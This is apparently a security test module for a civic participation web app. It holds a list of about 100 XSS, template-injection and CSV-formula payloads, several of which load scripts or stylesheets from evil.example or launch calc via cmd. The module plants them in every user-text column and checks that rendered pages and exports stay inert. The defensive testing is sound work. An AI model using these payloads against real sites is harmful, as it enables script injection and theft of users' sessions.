"""XSS payloads, where the security tests plant them, and the check that a page stayed inert.

    for payload in PAYLOADS: payload.text("prt")   # the payload with its marker "xss07prt"
    world = planted_world()                        # the security world, every text a payload
    for path in start_paths(app, world): ...       # every GET route, searches, more objects
    active_content(html)                           # [] when nothing in the page can run

Each payload carries a marker `xss<two-digit id><three-letter field code>`, so a finding names
the payload and the field it came through. Markers are lower-case letters and digits only: they
survive escaping, Markdown, case-folding and the search's word splitting.
"""

import csv
import io
import re
from dataclasses import dataclass
from datetime import timedelta
from html.parser import HTMLParser
from itertools import cycle

from sqlalchemy import JSON, String, Text
from wtforms.validators import ValidationError

from app.accounts.models import User
from app.core.clock import utcnow_naive
from app.extensions import db
from app.funding.models import FundingProgramme
from app.moderation.models import Report, UserBlock
from app.organisations.models import (
    Organisation,
    Statement,
    StatementRevision,
    VerificationDecision,
)
from app.projects.models import ProjectApproach
from app.proposals.models import OfficialResponse, Proposal, ProposalRevision
from app.proposals.search import index_proposal
from tests import factories
from tests import participation_builders as build
from tests.security.world import world_template

# --- the payloads --------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    id: int
    template: str
    kind: str

    def marker(self, code: str) -> str:
        return marker(self.id, code)

    def text(self, code: str) -> str:
        return self.template.replace("{m}", self.marker(code))

    @property
    def storable(self) -> bool:
        """PostgreSQL refuses NUL in text; those payloads go through forms and query strings."""
        return "\x00" not in self.template


def marker(payload_id: int, code: str) -> str:
    assert len(code) == 3 and code.isalpha() and code.islower(), code
    return f"xss{payload_id:02d}{code}"


MARKER = re.compile(r"xss\d{2}[a-z]{3}")

_TEMPLATES = [
    # script elements
    ("script", "<script>alert('{m}')</script>"),
    ("script", "<ScRiPt>alert('{m}')</sCrIpT>"),
    ("script", "<script src=//evil.example/{m}.js></script>"),
    ("script", "\"><script>alert('{m}')</script>"),
    ("script", "</title><script>alert('{m}')</script>"),
    ("script", "</textarea><script>alert('{m}')</script>"),
    ("script", "<scr<script>ipt>alert('{m}')</script>"),
    ("script", "<script>alert`{m}`</script>"),
    # event handlers
    ("handler", "<img src=x onerror=alert('{m}')>"),
    ("handler", "<IMG SRC=x OnErRoR=\"alert('{m}')\">"),
    ("handler", "<svg onload=alert('{m}')>"),
    ("handler", "<svg/onload=alert('{m}')>"),
    ("handler", "<body onload=alert('{m}')>"),
    ("handler", "<details open ontoggle=alert('{m}')>"),
    ("handler", "<input autofocus onfocus=alert('{m}')>"),
    ("handler", "<a href=# onclick=\"alert('{m}')\">x</a>"),
    ("handler", "<video><source onerror=alert('{m}')>"),
    ("handler", "<x contenteditable onblur=alert('{m}')>x"),
    ("handler", "<img src=x onerror=&#97;lert('{m}')>"),
    # links with other schemes, in HTML
    ("link", "<a href=\"javascript:alert('{m}')\">x</a>"),
    ("link", "<a href=\"JaVaScRiPt:alert('{m}')\">x</a>"),
    ("link", "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>"),
    ("link", "<a href=\"&#106;avascript:alert('{m}')\">x</a>"),
    (
        "link",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
        ":alert('{m}')\">x</a>",
    ),
    ("link", '<a href="data:text/html;base64,PHNjcmlwdD4=#{m}">x</a>'),
    ("link", "<a href=\"vbscript:msgbox('{m}')\">x</a>"),
    ("link", '<a href="https://evil.example/{m}">x</a>'),
    # bare addresses (for address fields and autolinking)
    ("url", "javascript:alert('{m}')"),
    ("url", "JAVASCRIPT:alert('{m}')"),
    ("url", " javascript:alert('{m}')"),
    ("url", "jav\tascript:alert('{m}')"),
    ("url", "javascript://evil.example/%0aalert('{m}')"),
    ("url", "data:text/html,<script>alert('{m}')</script>"),
    ("url", "vbscript:msgbox('{m}')"),
    ("url", 'https://evil.example/{m}"onmouseover="alert(1)'),
    ("url", "https://evil.example/{m}?a=<script>alert(1)</script>"),
    # Markdown: user text is a Markdown subset
    ("markdown", "[x](javascript:alert('{m}'))"),
    ("markdown", "[x](JAVASCRIPT:alert('{m}'))"),
    ("markdown", "[x](javascript&#58;alert('{m}'))"),
    ("markdown", "[x](&#106;avascript:alert('{m}'))"),
    ("markdown", "[x](<javascript:alert('{m}')>)"),
    ("markdown", "[x](java%0ascript:alert('{m}'))"),
    ("markdown", "[x](data:text/html;base64,PHNjcmlwdD4=#{m})"),
    ("markdown", "[x](vbscript:msgbox('{m}'))"),
    ("markdown", "![x](javascript:alert('{m}'))"),
    ("markdown", "![{m}](https://evil.example/{m}.png)"),
    ("markdown", "<javascript:alert('{m}')>"),
    ("markdown", '[x](https://evil.example/{m} "\\" onmouseover=\\"alert(1)")'),
    ("markdown", "[x][r]\n\n[r]: javascript:alert('{m}')"),
    ("markdown", "[<img src=x onerror=alert('{m}')>](https://evil.example/)"),
    ("markdown", "`<script>alert('{m}')</script>`"),
    ("markdown", '<https://evil.example/{m}"onmouseover=alert(1)//>'),
    # attribute breakouts
    ("breakout", '" onmouseover="alert(\'{m}\')" x="'),
    ("breakout", "' onmouseover='alert(\"{m}\")' x='"),
    ("breakout", "\" autofocus onfocus=\"alert('{m}')"),
    ("breakout", "\"><img src=x onerror=alert('{m}')>"),
    ("breakout", "'><svg onload=alert('{m}')>"),
    ("breakout", "` onmouseover=alert('{m}') `"),
    ("breakout", "\" style=\"background:url(javascript:alert('{m}'))"),
    # SVG and MathML
    ("svg", "<svg><script>alert('{m}')</script></svg>"),
    ("svg", "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>"),
    ("svg", "<svg><animate onbegin=alert('{m}') attributeName=x>"),
    ("svg", "<svg><set attributeName=href to=\"javascript:alert('{m}')\">"),
    ("svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>"),
    ("svg", "<math href=\"javascript:alert('{m}')\">x</math>"),
    ("svg", "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">"),
    # frames, objects, base, forms, meta
    ("frame", "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>"),
    ("frame", "<iframe src=\"javascript:alert('{m}')\"></iframe>"),
    ("frame", "<object data=\"javascript:alert('{m}')\"></object>"),
    ("frame", '<embed src="data:image/svg+xml,{m}">'),
    ("frame", '<base href="https://evil.example/{m}/">'),
    ("frame", '<form action="https://evil.example/{m}"><button>x</button></form>'),
    ("frame", "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">"),
    ("frame", "<link rel=stylesheet href=//evil.example/{m}.css>"),
    # style
    ("style", "<div style=\"width:expression(alert('{m}'))\">x</div>"),
    ("style", "<style>@import 'https://evil.example/{m}.css';</style>"),
    ("style", "<p style=\"background:url('https://evil.example/{m}')\">x</p>"),
    # template injection (server side and client side)
    ("template", "{{7*7}}{m}"),
    ("template", "${7*7}{m}"),
    ("template", "#{7*7}{m}"),
    ("template", "{{config}}{m}"),
    ("template", "{% print(7*7) %}{m}"),
    # encoded variants that must stay text
    ("encoded", "&lt;script&gt;alert('{m}')&lt;/script&gt;"),
    ("encoded", "%3Cscript%3Ealert('{m}')%3C/script%3E"),
    ("encoded", "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e"),
    ("encoded", "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e"),
    ("encoded", "<!--{m}--><script>alert(1)</script>"),
    # control and direction characters
    ("control", "\u202e{m}gpj.exe"),
    ("control", "\u202e\"><script>alert('{m}')</script>"),
    ("control", "\u2066{m}\u2069<b id={m}>\u200f</b>"),
    ("control", "<scr\x00ipt>alert('{m}')</script>"),
    ("control", "{m}\x00<script>alert(1)</script>"),
    # spreadsheet formulas (CSV exports)
    ("formula", '=HYPERLINK("https://evil.example/{m}","x")'),
    ("formula", "+1+1+{m}"),
    ("formula", "-1+cmd|' /C calc'!A0{m}"),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0{m}"),
    ("formula", "\t=1+1+{m}"),
    ("formula", "\r=1+1+{m}"),
]

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(number, template, kind) for number, (kind, template) in enumerate(_TEMPLATES, start=1)
)
assert len(PAYLOADS) < 100, "markers have two digits"
STORABLE = tuple(payload for payload in PAYLOADS if payload.storable)
FORMULAS = tuple(payload for payload in PAYLOADS if payload.kind == "formula")


def by_id(payload_id: int) -> Payload:
    return PAYLOADS[payload_id - 1]


def joined(code: str, payloads=STORABLE) -> str:
    """Every payload in one text, a paragraph each (for long texts)."""
    return "\n\n".join(payload.text(code) for payload in payloads)


# --- where they are planted ----------------------------------------------------------------

# The kinds of column: a long text takes every payload at once; a short one takes one payload
# per row (those that fit); an address takes what the form's address check lets through.
LONG, SHORT, ADDRESS = "long", "short", "address"


@dataclass(frozen=True)
class Planted:
    table: str
    column: str
    code: str
    kind: str


PLANTED: tuple[Planted, ...] = (
    Planted("users", "display_name", "usr", SHORT),
    Planted("regions", "name", "rgn", SHORT),
    Planted("regions", "description", "rgd", LONG),
    Planted("fields_of_action", "name", "fan", SHORT),
    Planted("fields_of_action", "description", "fad", LONG),
    Planted("consultations", "title", "cot", SHORT),
    Planted("consultations", "summary", "cos", LONG),
    Planted("consultations", "description", "cod", LONG),
    Planted("consultations", "easy_language_summary", "coe", LONG),
    # proposals, comments, statements, translations and concept comments share this column
    Planted("contributions", "body", "cbo", LONG),
    Planted("proposals", "title", "prt", SHORT),
    Planted("proposal_revisions", "title", "rvt", SHORT),
    Planted("proposal_revisions", "body", "rvb", LONG),
    Planted("official_responses", "body", "ans", LONG),
    Planted("statements", "title", "stt", SHORT),
    Planted("statement_revisions", "title", "srt", SHORT),
    Planted("statement_revisions", "body", "srb", LONG),
    Planted("contribution_translations", "title", "trt", SHORT),
    Planted("organisations", "name", "orn", SHORT),
    Planted("organisations", "description", "ord", LONG),
    Planted("organisations", "website", "orw", ADDRESS),
    Planted("organisation_decisions", "reason", "ovr", LONG),
    Planted("organisation_join_requests", "message", "ojm", SHORT),
    Planted("on_site_events", "name", "evn", SHORT),
    Planted("on_site_events", "place", "evp", SHORT),
    Planted("funding_programmes", "name", "fpn", SHORT),
    Planted("funding_programmes", "funder", "fpf", SHORT),
    Planted("funding_programmes", "target_groups", "fpt", SHORT),
    Planted("funding_programmes", "contact", "fpc", SHORT),
    Planted("funding_programmes", "url", "fpu", ADDRESS),
    Planted("funding_programmes", "description", "fpd", LONG),
    Planted("programme_deadlines", "label", "fdl", SHORT),
    Planted("project_approaches", "title", "pjt", SHORT),
    Planted("project_approaches", "description", "pjd", LONG),
    Planted("project_approaches", "lead_name", "pjl", SHORT),
    Planted("project_approaches", "results_summary", "pjr", LONG),
    Planted("project_partners", "name", "pjp", SHORT),
    Planted("concept_versions", "note", "cvn", LONG),
    Planted("concept_items", "title", "cit", SHORT),
    Planted("concept_items", "description", "cid", LONG),
    Planted("concept_items", "responsible", "cir", SHORT),
    Planted("concept_items", "timeframe", "cif", SHORT),
    Planted("moderation_decisions", "note_to_author", "mdn", LONG),
    Planted("reports", "note", "rpn", LONG),
    Planted("user_blocks", "reason", "ubr", LONG),
    Planted("appeals", "note", "apn", LONG),
    Planted("appeals", "resolution_note", "apr", LONG),
    Planted("accessibility_feedback", "name", "afn", SHORT),
    Planted("accessibility_feedback", "page_url", "afu", SHORT),
    Planted("accessibility_feedback", "message", "afm", LONG),
    Planted("context_indicators", "source", "cxs", SHORT),
    Planted("context_indicators", "source_url", "cxu", ADDRESS),
    Planted("context_indicators", "note", "cxn", LONG),
    Planted("editable_pages", "body", "epb", LONG),
    Planted("sign_language_videos", "title", "vdt", SHORT),
)

# Text columns that hold no text a person typed (or that is checked and stored in another
# form), each with the reason. A new text column must appear in PLANTED or here.
NOT_PLANTED: dict[tuple[str, str], str] = {
    **{
        (table, column): "a code from a fixed list"
        for table, column in [
            ("regions", "kind"),
            ("users", "locale"),
            ("concept_versions", "state"),
            ("context_indicators", "key"),
            ("funding_programmes", "funder_level"),
            ("funding_programmes", "status"),
            ("notification_settings", "kind"),
            ("notification_settings", "delivery"),
            ("organisations", "kind"),
            ("organisations", "status"),
            ("participation_profiles", "age_band"),
            ("participation_profiles", "migration_experience"),
            ("participation_profiles", "consent_version"),
            ("participation_profile_languages", "language"),
            ("role_assignments", "role"),
            ("concept_items", "kind"),
            ("concept_items", "status"),
            ("consultations", "state"),
            ("consultations", "moderation_mode"),
            ("consultations", "voting_mode"),
            ("consultations", "eligibility"),
            ("organisation_decisions", "action"),
            ("organisation_invitations", "role"),
            ("organisation_invitations", "state"),
            ("organisation_join_requests", "state"),
            ("organisation_members", "role"),
            ("programme_deadlines", "recurrence"),
            ("project_approaches", "language"),
            ("project_approaches", "status"),
            ("on_site_events", "format"),
            ("phases", "kind"),
            ("project_fundings", "state"),
            ("contributions", "kind"),
            ("contributions", "language"),
            ("contributions", "moderation_state"),
            ("concept_comments", "stance"),
            ("comments", "stance"),
            ("moderation_decisions", "action"),
            ("moderation_decisions", "reason"),
            ("moderation_decisions", "state_before"),
            ("moderation_decisions", "state_after"),
            ("proposals", "status"),
            ("statement_revisions", "language"),
            ("appeals", "outcome"),
            ("notifications", "kind"),
            ("official_responses", "status"),
            ("reports", "reason"),
            ("mail_outbox", "status"),
        ]
    },
    ("fields_of_action", "slug"): "an identifier in addresses, checked by the form",
    ("regions", "slug"): "an identifier in addresses, checked by the form",
    ("editable_pages", "slug"): "an identifier set by the code",
    ("concept_items", "key"): "an identifier set by the code",
    ("sign_language_videos", "filename"): "a file name the upload service makes",
    ("users", "email"): "an address the form checks; never shown to other people",
    ("users", "password_hash"): "a hash",
    ("users", "session_token"): "a random token",
    ("users", "totp_secret"): "a random secret",
    ("mfa_recovery_codes", "code_hash"): "a hash",
    ("accessibility_feedback", "email"): "an address the form checks",
    ("organisations", "contact_email"): "an address the form checks (form test)",
    ("organisation_invitations", "email"): "an address the form checks",
    ("mail_outbox", "to_address"): "an address",
    ("mail_outbox", "subject"): "written by the mail templates",
    ("mail_outbox", "text_body"): "written by the mail templates",
    ("mail_outbox", "html_body"): "written by the mail templates",
    ("mail_outbox", "headers"): "written by the mail code",
    ("mail_outbox", "message_id"): "written by the mail code",
    ("mail_outbox", "claim_token"): "a random token",
    ("mail_outbox", "last_error"): "the mail server's answer, never shown",
    ("notifications", "params"): "codes; the text is composed when read",
    ("users", "search_key"): "derived from the name (refreshed after planting)",
    ("organisations", "search_key"): "derived from the name (refreshed after planting)",
    ("funding_programmes", "search_key"): "derived from the texts (refreshed after planting)",
    ("project_approaches", "search_key"): "derived from the texts (refreshed after planting)",
    ("proposals", "search_text"): "derived from title and text (refreshed after planting)",
}


def text_columns() -> list[tuple[str, str]]:
    """Every (table, column) of the schema that holds text or JSON."""
    return [
        (table.name, column.name)
        for table in db.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, String | Text | JSON)
    ]


def _column_length(table: str, column: str) -> int | None:
    return getattr(db.metadata.tables[table].columns[column].type, "length", None)


class _Field:
    def __init__(self, data):
        self.data = data


def passes_address_check(value: str) -> bool:
    """What the forms' web-address check lets through can be stored by anyone."""
    from app.organisations.forms import web_address

    try:
        web_address(None, _Field(value))
    except ValidationError:
        return False
    return True


def short_payloads(code: str, length: int | None, payloads=STORABLE) -> list[str]:
    texts = [payload.text(code) for payload in payloads]
    return [text for text in texts if length is None or len(text) <= length]


def address_payloads(code: str, payloads=STORABLE) -> list[str]:
    texts = [payload.text(code) for payload in payloads if payload.kind in ("url", "link")]
    texts += [f"https://evil.example/{payload.text(code)}" for payload in payloads]
    return [text for text in texts if passes_address_check(text) and len(text) <= 300]


def plant_corpus(payloads=STORABLE) -> dict[str, int]:
    """Overwrite every planted column of every row with `payloads`; committed.

    Returns {code: rows written}. Derived search columns are brought up to date.
    """
    written: dict[str, int] = {}
    tables = db.metadata.tables
    for planted in PLANTED:
        table = tables[planted.table]
        column = table.columns[planted.column]
        key = next(iter(table.primary_key.columns))
        if planted.kind == ADDRESS:
            values = address_payloads(planted.code, payloads)
        else:
            length = _column_length(planted.table, planted.column)
            values = short_payloads(planted.code, length, payloads)
        assert values, f"no payload fits {planted.table}.{planted.column}"
        # Each column starts at another payload, so columns with few rows differ.
        offset = PLANTED.index(planted) * 7 % len(values)
        short = cycle(values[offset:] + values[:offset])
        rows = db.session.execute(db.select(key, column).order_by(key)).all()
        for row_key, current in rows:
            value = joined(planted.code, payloads) if planted.kind == LONG else next(short)
            if isinstance(column.type, JSON):
                languages = set(current or {}) | {"de"}
                value = {language: value for language in sorted(languages)}
            db.session.execute(table.update().where(key == row_key).values({column: value}))
        written[planted.code] = len(rows)
    db.session.commit()
    db.session.expire_all()
    for model in (User, Organisation, FundingProgramme, ProjectApproach):
        for obj in db.session.scalars(db.select(model)):
            obj.refresh_search_key()
    for proposal in db.session.scalars(db.select(Proposal)):
        index_proposal(proposal)
    db.session.commit()
    return written


# --- the planted world ---------------------------------------------------------------------

# Routes whose answers are files, not pages.
NOT_PAGES = {"static", "pages.video_file"}
DEMO_RESIDENT = "bewohnerin@demo.mitreden.example"  # many notifications naming people and titles
# Words many payloads contain: searches for them find planted rows.
SEARCHES = ("alert", "script", "evil")


def start_paths(app, world) -> list[str]:
    paths = [
        world.path_for(rule)
        for rule in app.url_map.iter_rules()
        if rule.endpoint not in NOT_PAGES
        if "GET" in rule.methods
    ]
    consultation = world.path_for("consultations.detail")
    for word in SEARCHES:
        paths += [
            f"{consultation}?q={word}",
            f"/organisations/?q={word}",
            f"/funding/?q={word}",
            f"/admin/users?q={word}",
            f"{consultation}/proposals/similar?title={word}",
        ]
    return paths


def _first(query, limit: int = 3) -> list:
    return list(db.session.execute(query.limit(limit)).all())


def pages_of_planted_rows(world) -> list[str]:
    """Pages of objects whose rows the world's own objects lack (answers, revisions, reports,
    verification decisions): a few of each from the demo data."""
    path = world.path_for
    paths = []
    for consultation_id, proposal_id in _first(
        db.select(Proposal.consultation_id, Proposal.id).where(
            Proposal.id.in_(db.select(OfficialResponse.proposal_id))
        )
    ):
        paths.append(
            path("proposals.detail", consultation_id=consultation_id, proposal_id=proposal_id)
        )
    for consultation_id, proposal_id in _first(
        db.select(Proposal.consultation_id, Proposal.id).where(
            Proposal.id.in_(db.select(ProposalRevision.proposal_id))
        )
    ):
        paths.append(
            path("proposals.history", consultation_id=consultation_id, proposal_id=proposal_id)
        )
    for consultation_id, statement_id in _first(
        db.select(Statement.consultation_id, Statement.id).where(
            Statement.id.in_(db.select(StatementRevision.statement_id))
        )
    ):
        for endpoint in ("statements.detail", "statements.history"):
            paths.append(path(endpoint, consultation_id=consultation_id, statement_id=statement_id))
    for (contribution_id,) in _first(db.select(Report.contribution_id).distinct()):
        paths.append(path("moderation.item", contribution_id=contribution_id))
    # Every organisation's profile (what was said on its behalf: proposals, comments,
    # statements and concept comments), and the review pages of those with decisions.
    for (organisation_id,) in _first(db.select(Organisation.id), limit=20):
        paths.append(path("organisations.profile", organisation_id=organisation_id))
    for (organisation_id,) in _first(
        db.select(VerificationDecision.organisation_id).distinct(), limit=8
    ):
        paths.append(path("organisations.review", organisation_id=organisation_id))
    return paths


def _block(world) -> None:
    """The author is blocked for a week, so the block's reason has a page (/moderation/mine)."""
    author = world.user("author")
    until = utcnow_naive() + timedelta(days=7)
    db.session.add(
        UserBlock(
            user_id=author.id,
            blocked_by_id=world.user("moderator").id,
            reason="Wiederholt beleidigend.",
            until=until,
        )
    )
    author.blocked_until = until
    db.session.commit()


def _extra_rows(world) -> None:
    """Names and titles are short: one account and one proposal per payload that fits, so
    every payload passes through a display name and a proposal title."""
    proposal = world.objects["proposal"]
    consultation = world.consultation
    participant = world.user("participant")
    for payload in STORABLE:
        name = payload.text("usr")
        if len(name) <= 60:
            person = factories.make_user(display_name=name)
            build.comment(proposal, person, body="Ein Kommentar zum Vorschlag.")
        title = payload.text("prt")
        if len(title) <= 160:
            build.proposal(consultation, participant, title=title)
    db.session.commit()


def _plant(world):
    _block(world)
    plant_corpus()
    _extra_rows(world)
    return world


# The security world with the corpus in every planted column, plus one account (with a comment
# on the world's proposal) and one proposal per payload that fits a name or title. Planted once
# per run; `planted_world()` restores a copy of it, first in a test.
planted_world = world_template("xss-planted-world", _plant)


# --- the check -----------------------------------------------------------------------------

FRAME_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "cite",
    "ping",
    "manifest",
    "codebase",
    "dynsrc",
    "lowsrc",
    "longdesc",
    "to",
    "from",
    "values",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Attributes in which the app shows user text (escaped) on purpose.
TEXT_ATTRIBUTES = {
    "value",
    "title",
    "aria-label",
    "alt",
    "placeholder",
    "content",
    "href",
    "action",
    # read by our script with dataset.confirm and shown by window.confirm(), as text
    "data-confirm",
}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
_URL_NOISE = re.compile(r"[\t\n\r]")
_TEMPLATE_RESULT = re.compile(r"49xss\d{2}[a-z]{3}|SECRET_KEY|&lt;Config |<Config ")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: tabs and line breaks removed, leading space stripped."""
    cleaned = _URL_NOISE.sub("", value).lstrip("".join(chr(c) for c in range(33)))
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class _ActiveContentFinder(HTMLParser):
    def __init__(self, allow_style: bool):
        super().__init__(convert_charrefs=True)
        self.allow_style = allow_style
        self.findings: list[str] = []
        self._in_style = False
        self._in_body = False

    def _find(self, what: str, tag: str, attrs) -> None:
        shown = " ".join(f'{name}="{value}"' for name, value in attrs)[:160]
        self.findings.append(f"{what}: <{tag} {shown}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if MARKER.search(tag):
            self._find("element from user text", tag, attrs)
        if tag in FRAME_TAGS:
            self._find("frame, object or base element", tag, attrs)
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self._find("script not from /static", tag, attrs)
        if tag == "meta" and "http-equiv" in values:
            self._find("meta http-equiv", tag, attrs)
        if tag == "link" and not values.get("href", "").startswith("/static/"):
            self._find("link not to /static", tag, attrs)
        if tag == "body":
            self._in_body = True
        if tag == "style":
            self._in_style = True
            if self._in_body:
                self._find("style element in the body", tag, attrs)
        action = values.get("action", "")
        if tag == "form" and (
            url_scheme(action) is not None
            or action.startswith("//")
            # A form posting to the page's own address may carry its query string (encoded).
            or MARKER.search(action.partition("?")[0])
            or any(MARKER.search(value) for name, value in values.items() if name != "action")
        ):
            self._find("form from user text", tag, attrs)
        for name, value in values.items():
            if name.startswith("on"):
                self._find(f"event handler {name}", tag, attrs)
            if name in ("srcdoc", "formaction"):
                self._find(f"attribute {name}", tag, attrs)
            if name == "style" and (not self.allow_style or MARKER.search(value)):
                self._find("style attribute", tag, attrs)
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self._find(f"{scheme}: address in {name}", tag, attrs)
            if name == "srcset":
                for candidate in value.split(","):
                    scheme = url_scheme(candidate.strip())
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        self._find(f"{scheme}: address in srcset", tag, attrs)
            if MARKER.search(name):
                self._find("attribute from user text", tag, attrs)
            elif MARKER.search(value) and name not in TEXT_ATTRIBUTES:
                self._find(f"user text in attribute {name}", tag, attrs)

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False

    def handle_data(self, data):
        if self._in_style and MARKER.search(data):
            self.findings.append(f"user text in a style element: {data[:160]!r}")


def active_content(html: str, allow_style: bool = False) -> list[str]:
    """What in `html` could run or load: [] for an inert page.

    Fails on scripts not from /static, event-handler and style attributes, addresses with a
    scheme other than http, https or mailto, frames, objects, embeds, base and meta refresh,
    forms sending elsewhere, and any attribute or element that carries a payload marker where
    the app shows no user text. Escaped text is fine. `allow_style`: for mails, which style
    inline (still refused when the style carries a marker).
    """
    finder = _ActiveContentFinder(allow_style)
    finder.feed(html)
    finder.close()
    for match in _TEMPLATE_RESULT.finditer(html):
        finder.findings.append(f"template expression evaluated: {match.group(0)}")
    return finder.findings


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula and that hold user text."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and MARKER.search(cell):
                found.append(cell[:120])
    return found
